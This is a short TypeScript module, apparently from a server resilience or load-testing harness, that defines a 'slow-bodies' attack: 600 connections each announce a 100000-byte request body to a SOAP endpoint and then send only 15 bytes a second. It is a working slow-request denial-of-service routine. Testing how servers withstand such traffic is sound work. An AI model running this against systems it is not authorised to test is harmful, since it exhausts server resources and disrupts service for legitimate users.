import type { Attack } from '../attack.ts';
import { countStatus, every, headOf, keep } from '../wire.ts';

const head = headOf('/v2/soap11', 'Content-Length: 100000\r\n');

export const slowBodies: Attack = {
  name: 'slow-bodies',
  says: '600 connections, each sending 15 bytes of a body a second',
  run: async (target) => {
    await keep(
      600,
      target,
      (socket) => {
        countStatus(socket, target).write(head);
        const drip = setInterval(() => socket.write(' '.repeat(15)), 1_000);
        socket.once('close', () => clearInterval(drip));
      },
      100,
    );
    await every(1_000, target, () => {});
    return [];
  },
};
